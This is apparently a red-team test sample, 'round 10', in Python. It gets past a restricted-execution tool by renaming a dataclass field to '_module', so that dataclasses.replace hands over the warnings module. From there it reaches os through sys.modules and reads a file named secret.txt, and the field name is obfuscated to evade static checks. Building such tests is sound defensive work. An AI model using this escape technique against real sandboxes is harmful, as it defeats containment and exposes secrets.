# family: red team, round 10 (dataclass_replace_renamed_field_private)
# dataclasses.replace(obj) reads getattr(obj, f.name) for every field and passes it to the class as a keyword.
# A field renamed at run time (Field reached through a helper) to "_module" on a dataclass deriving from
# warnings.catch_warnings hands the tool's own __init__ the warnings module; its sys leads to os.
import dataclasses
import warnings

STASH = []


@dataclasses.dataclass
class Watch(warnings.catch_warnings):
    x: int = 0

    def __init__(self, **given):
        STASH.append(given)
        super().__init__()


def pick(items):
    return items[0]


field = pick(dataclasses.fields(Watch))
field.name = "_mod" + "ule" * len(STASH[:0] or [1])


def run():
    dataclasses.replace(Watch())
    mod = STASH[-1][field.name]
    osmod = mod.sys.modules["os"]
    fd = osmod.open("/tmp/r10/work/secret.txt", osmod.O_RDONLY)
    text = osmod.read(fd, 100).decode().strip()
    osmod.close(fd)
    return mod.__name__, osmod.getpid(), text


print(run())
